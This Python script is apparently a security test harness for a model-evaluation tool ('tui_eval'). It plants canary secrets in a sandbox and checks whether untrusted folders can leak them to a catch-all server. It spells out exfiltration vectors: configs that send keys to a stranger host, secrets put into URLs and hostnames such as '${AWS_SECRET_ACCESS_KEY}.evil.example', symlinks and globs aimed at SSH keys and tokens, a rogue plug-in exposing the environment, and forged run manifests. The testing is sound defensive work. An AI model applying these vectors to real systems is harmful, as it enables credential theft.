"""Strangers' folders opened where every address of the network is one server that keeps what it is sent. A program, for a
network namespace of its own: python canary_room.py FOLDER WAY prints what arrived of what nobody allowed, as JSON.
"""

from __future__ import annotations

import base64
import json
import os
import shutil
import socket
import subprocess
import sys
import threading
from collections.abc import Callable
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path
from typing import Any

STRANGER = "203.0.113.5:8080"
CANARIES = {
    "key": "sk-canary-of-the-provider-0011",
    "variable": "canary-of-another-variable-2233",
    "env_file": "canary-of-the-env-file-4455",
    "private_file": "canary-of-a-private-file-6677",
    "outside": "canary-of-a-file-outside-8899",
}
"""What is planted, by where."""
VARIABLES = {"OPENAI_API_KEY": CANARIES["key"], "AWS_SECRET_ACCESS_KEY": CANARIES["variable"]}
PRIVATE = f"-----BEGIN OPENSSH PRIVATE KEY-----\n{CANARIES['private_file']}\n-----END OPENSSH PRIVATE KEY-----\n"


class Catcher:
    """The one server there is: it answers as a model does, and keeps every byte, names that are looked up among them."""

    def __init__(self) -> None:
        self.caught: list[bytes] = []
        catcher = self

        class Handler(BaseHTTPRequestHandler):
            protocol_version = "HTTP/1.1"

            def do_POST(self) -> None:
                body = self.rfile.read(int(self.headers.get("Content-Length", 0)))
                catcher.caught.append(f"{self.command} {self.path}\n{self.headers}".encode() + body)
                choice = {"index": 0, "message": {"role": "assistant", "content": "hi"}, "finish_reason": "stop"}
                usage = {"prompt_tokens": 1, "completion_tokens": 1, "total_tokens": 2}
                answer = json.dumps({"id": "x", "object": "chat.completion", "model": "m", "choices": [choice], "usage": usage})
                self.send_response(200)
                self.send_header("Content-Type", "application/json")
                self.send_header("Content-Length", str(len(answer)))
                self.end_headers()
                self.wfile.write(answer.encode())

            do_GET = do_CONNECT = do_POST  # noqa: N815

            def log_message(self, *_: Any) -> None:
                """Say nothing."""

        for port in (8080, 3128, 80):
            server = ThreadingHTTPServer(("0.0.0.0", port), Handler)
            threading.Thread(target=server.serve_forever, daemon=True).start()
        names = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
        names.bind(("0.0.0.0", 53))
        threading.Thread(target=self._keep_lookups, args=[names], daemon=True).start()

    def _keep_lookups(self, names: socket.socket) -> None:
        while True:
            self.caught.append(names.recv(65_535))

    def found(self) -> list[str]:
        """Which canaries arrived, as they are, in base64 or in other letters."""
        whole = b"\n".join(self.caught)
        lower = whole.lower()
        return sorted(
            name
            for name, value in CANARIES.items()
            if value.encode() in whole or value.lower().encode() in lower or _core(value) in whole
        )


def _core(value: str) -> bytes:
    """The part of its base64 that no byte beside it changes."""
    return base64.b64encode(value.encode())[:-4]


class Room:
    """A stranger's folder, the person's own things around it, and commands."""

    def __init__(self, folder: Path) -> None:
        self.folder = folder
        self.home = folder / "home"
        self.theirs = folder / "theirs"
        for made in (self.home / ".ssh", self.home / ".config" / "gh", self.theirs / "docs"):
            made.mkdir(parents=True)
        (self.home / ".ssh" / "id_rsa").write_text(PRIVATE)
        self.outside = self.home / ".config" / "gh" / "hosts.yml"
        self.outside.write_text(f"oauth_token: {CANARIES['outside']}\n")
        (self.theirs / ".env").write_text(f"THEIR_OWN={CANARIES['env_file']}\n")
        (self.theirs / "docs" / "a.md").write_text("Berths are deep.\n")

    def config(self, name: str = "a.toml", documents: object = ("docs/*.md",), head: str = "", **model: str) -> Path:
        """A stranger's config: one model at a stranger's host, with the documents it names."""
        table = {"name": "m", "wire": "openai", "model": "m", "base_url": f"http://{STRANGER}/v1", **model}
        lines = [f"{key} = {json.dumps(value)}" for key, value in table.items() if value]
        panel = f'[panel]\nquestions = ["What?"]\ndocuments = {json.dumps(list(documents))}\n[[panel.doers]]\nmodel = "m"\n'  # type: ignore[call-overload]
        text = f'kind = "panel"\nname = "a"\n{head}[run]\nmax_calls = 9\nretries = 0\ncache = false\n[[models]]\n'
        path = self.theirs / name
        path.write_text(text + "\n".join(lines) + "\n" + panel)
        return path

    def says_yes_for_itself(self) -> None:
        """The lists of an older version, in the folder itself: hosts, keys, and models on file."""
        conf = self.theirs / ".conf"
        conf.mkdir(exist_ok=True)
        keys = "".join(f'{name} = ["{STRANGER}", "127.0.0.1:8080"]\n' for name in VARIABLES)
        (conf / "trusted_hosts.toml").write_text(f'hosts = ["{STRANGER}"]\n[keys]\n{keys}')
        (conf / "models.toml").write_text(
            f'[[models]]\nname = "on-file"\nwire = "openai"\nmodel = "m"\nbase_url = "http://{STRANGER}/v1"\n'
            'api_key_env = "OPENAI_API_KEY"\n'
        )

    def run(self, *words: str | Path, timeout: float = 60.0) -> int:
        """A command in the stranger's folder, without a terminal; its exit code."""
        environment = {
            "PATH": os.environ["PATH"],
            "HOME": str(self.home),
            "PYTHONPATH": os.environ.get("PYTHONPATH", ""),
            "LANG": "C.UTF-8",
            **VARIABLES,
        }
        command = [sys.executable, "-m", "tui_eval", *map(str, words)]
        done = subprocess.run(
            command,
            cwd=self.theirs,
            env=environment,
            stdin=subprocess.DEVNULL,
            capture_output=True,
            timeout=timeout,
            check=False,
        )
        sys.stderr.write(f"$ {' '.join(map(str, words))}\n{done.stdout.decode()}{done.stderr.decode()}")
        return done.returncode


def by_config(room: Room) -> list[int]:
    """A key, another variable in the path, in the name of a host, and by a proxy."""
    return [
        room.run("run", room.config(api_key_env="OPENAI_API_KEY"), "--no-preflight"),
        room.run("run", room.config(base_url=f"http://{STRANGER}/${{AWS_SECRET_ACCESS_KEY}}/v1")),
        room.run("run", room.config(base_url="http://${AWS_SECRET_ACCESS_KEY}.evil.example/v1")),
        room.run("run", room.config(api_key_env="THEIR_OWN")),
        room.run("run", room.config(base_url="http://127.0.0.1:8080/v1", api_key_env="OPENAI_API_KEY")),
        room.run("run", room.config(base_url="http://api.openai.com/v1", api_key_env="AWS_SECRET_ACCESS_KEY")),
    ]


def by_workspace(room: Room) -> list[int]:
    """Files of the folder that say yes for it."""
    room.says_yes_for_itself()
    config = room.config(api_key_env="OPENAI_API_KEY")
    return [room.run("run", config), room.run("models", "check"), room.run("run", config, "--models", "on-file")]


def by_run_folder(room: Room) -> list[int]:
    """A run that was prepared elsewhere: taken up again, and run anew by its config."""
    _prepared_elsewhere(room)
    return [room.run("resume", "runs/gift"), room.run("run", "runs/gift/config.toml"), room.run("run", "runs/gift")]


def by_prompt_link(room: Room) -> list[int]:
    """A prompt of the workspace, and one that a config names, that are links to private files."""
    folder = room.theirs / "prompts" / "panel"
    folder.mkdir(parents=True)
    codes = []
    for target in (room.home / ".ssh" / "id_rsa", room.outside):
        link = folder / "doer_system.md"
        link.unlink(missing_ok=True)
        link.symlink_to(target)
        codes.append(room.run("run", room.config()))
        link.unlink()
    (room.theirs / "mine.md").symlink_to(room.outside)
    config = room.config()
    config.write_text(config.read_text() + '[panel.prompts]\ndoer_system = { file = "mine.md" }\n')
    codes.append(room.run("run", config))
    config.write_text(config.read_text().replace("mine.md", str(room.outside)))
    return [*codes, room.run("run", config)]


def by_document(room: Room) -> list[int]:
    """A link among documents, a path elsewhere, one behind dots, a pattern over the whole machine."""
    (room.theirs / "docs" / "b.md").symlink_to(room.home / ".ssh" / "id_rsa")
    codes = [room.run("run", room.config())]
    (room.theirs / "docs" / "b.md").unlink()
    (room.theirs / "docs" / "c.md").symlink_to(room.outside)
    codes.append(room.run("run", room.config()))
    (room.theirs / "docs" / "c.md").unlink()
    (room.theirs / "up").symlink_to(room.home / ".config")
    for named in (str(room.outside), "../home/.config/gh/hosts.yml", f"{room.home}/**/*.yml", "up/*/*.yml", "/**/hosts.yml"):
        codes.append(room.run("run", room.config(documents=[named])))
    return codes


def by_plug_in(room: Room) -> list[int]:
    """Modules in the folder that are called as plug-ins are, and a wire that nobody installed."""
    (room.theirs / "tui_eval_evil.py").write_text("import os\nWIRE = os.environ\n")
    info = room.theirs / "evil-1.0.dist-info"
    info.mkdir()
    (info / "METADATA").write_text("Metadata-Version: 2.1\nName: evil\nVersion: 1.0\n")
    (info / "entry_points.txt").write_text("[tui_eval.wires]\nevil = tui_eval_evil:WIRE\n")
    return [room.run("run", room.config(wire="evil", api_key_env="OPENAI_API_KEY"))]


def by_keymap(room: Room) -> list[int]:
    """A list of keys that makes other keys mean yes."""
    (room.theirs / ".conf").mkdir(exist_ok=True)
    (room.theirs / ".conf" / "keymap.toml").write_text('"confirm.yes" = "n,enter,space,escape"\n')
    room.config(api_key_env="OPENAI_API_KEY")
    return [_app(room, b"\r n\x1b")]


def by_theme(room: Room) -> list[int]:
    """A theme that is a link to a private file."""
    (room.theirs / "themes").mkdir()
    (room.theirs / "themes" / "mine.toml").symlink_to(room.home / ".ssh" / "id_rsa")
    room.config(api_key_env="OPENAI_API_KEY")
    return [_app(room, b"s"), room.run("run", room.config(api_key_env="OPENAI_API_KEY"))]


def by_resume(room: Room) -> list[int]:
    """A run folder whose inputs are links, and whose config names files elsewhere."""
    _prepared_elsewhere(room)
    gift = room.theirs / "runs" / "gift"
    document = next((gift / "inputs" / "documents").iterdir())
    document.unlink()
    document.symlink_to(room.outside)
    codes = [room.run("resume", "runs/gift", "--no-preflight")]
    config = (gift / "config.toml").read_text().replace(f"inputs/documents/{document.name}", str(room.outside))
    _forge(gift, config)
    return [*codes, room.run("resume", "runs/gift", "--no-preflight")]


def by_rescore(room: Room) -> list[int]:
    """Reports made anew of a stranger's run."""
    _prepared_elsewhere(room)
    return [room.run("rescore", "runs/gift"), room.run("rescore", "runs/gift", "--dry-run")]


def by_compare(room: Room) -> list[int]:
    """Two runs of strangers compared, exported, looked at."""
    _prepared_elsewhere(room)
    shutil.copytree(room.theirs / "runs" / "gift", room.theirs / "runs" / "other")
    verbs = [["compare", "runs/gift", "runs/other"], ["status", "runs/gift"], ["export", "runs/gift"], ["costs"]]
    return [room.run(*words) for words in verbs]


def by_app_start(room: Room) -> list[int]:
    """The app, opened and left in every way that the first look has, with keys that would start something."""
    room.says_yes_for_itself()
    room.config(api_key_env="OPENAI_API_KEY")
    _prepared_elsewhere(room)
    return [_app(room, keys) for keys in (b"n", b"\x1b", b"\r\r\r", b"sRy", b"s1cy2")]


WAYS: dict[str, Callable[[Room], list[int]]] = {
    "config": by_config,
    "workspace": by_workspace,
    "run folder": by_run_folder,
    "prompt link": by_prompt_link,
    "document": by_document,
    "plug-in": by_plug_in,
    "keymap": by_keymap,
    "theme": by_theme,
    "resume": by_resume,
    "rescore": by_rescore,
    "compare": by_compare,
    "app start": by_app_start,
}


def _prepared_elsewhere(room: Room) -> None:
    """A run folder as a stranger hands it on: prepared and ended in a home of theirs, its log emptied."""
    stranger = Room.__new__(Room)
    stranger.folder, stranger.home, stranger.theirs = room.folder, room.folder / "their home", room.theirs
    stranger.home.mkdir(exist_ok=True)
    config = room.config("gift.toml", api_key_env="OPENAI_API_KEY")
    values, VARIABLES["OPENAI_API_KEY"] = VARIABLES["OPENAI_API_KEY"], "the-strangers-own-key"
    stranger.run("models", "trust", STRANGER, "--key", "OPENAI_API_KEY")
    stranger.run("run", config, "--no-preflight", "--out", "runs/gift")
    VARIABLES["OPENAI_API_KEY"] = values
    gift = room.theirs / "runs" / "gift"
    for name in ("call_logs.jsonl", "intents.jsonl"):
        (gift / name).write_text("")


def _forge(gift: Path, config: str) -> None:
    """Put another config into a run folder, and its hash into the manifest, as a stranger can."""
    import hashlib

    (gift / "config.toml").write_text(config)
    manifest = json.loads((gift / "manifest.json").read_text())
    manifest["config_sha256"] = hashlib.sha256(config.encode()).hexdigest()
    (gift / "manifest.json").write_text(json.dumps(manifest))


def _app(room: Room, keys: bytes) -> int:
    """The app on a pseudo-terminal, given keys, then ended; 0 where it was there."""
    import pty
    import select
    import signal
    import time

    pid, terminal = pty.fork()
    if pid == 0:
        os.chdir(room.theirs)
        environment = {
            "PATH": os.environ["PATH"],
            "HOME": str(room.home),
            "TERM": "xterm-256color",
            "LANG": "C.UTF-8",
            **VARIABLES,
        }
        environment["PYTHONPATH"] = os.environ.get("PYTHONPATH", "")
        os.execve(sys.executable, [sys.executable, "-m", "tui_eval"], environment)
    end, sent, seen = time.monotonic() + 12.0, 0, b""
    while time.monotonic() < end:
        ready, _, _ = select.select([terminal], [], [], 0.2)
        try:
            seen += os.read(terminal, 65_536) if ready else b""
        except OSError:
            break
        if seen and not ready and sent < len(keys):
            os.write(terminal, keys[sent : sent + 1])
            sent += 1
        elif seen and not ready and sent == len(keys):
            break
    os.kill(pid, signal.SIGTERM)
    os.waitpid(pid, 0)
    os.close(terminal)
    return 0 if seen else 1


def main() -> int:
    """Try one way, and print what arrived."""
    folder, way = Path(sys.argv[1]), sys.argv[2]
    catcher = Catcher()
    room = Room(folder)
    if way == "after a yes":
        config = room.config(api_key_env="OPENAI_API_KEY", documents=["docs/*.md", str(room.outside)])
        room.run("models", "trust", STRANGER, "--key", "OPENAI_API_KEY", "--file", room.outside)
        codes = [room.run("run", config, "--no-preflight")]
    else:
        codes = WAYS[way](room)
    print(json.dumps({"found": catcher.found(), "codes": codes, "requests": len(catcher.caught)}))
    return 0


if __name__ == "__main__":
    sys.exit(main())
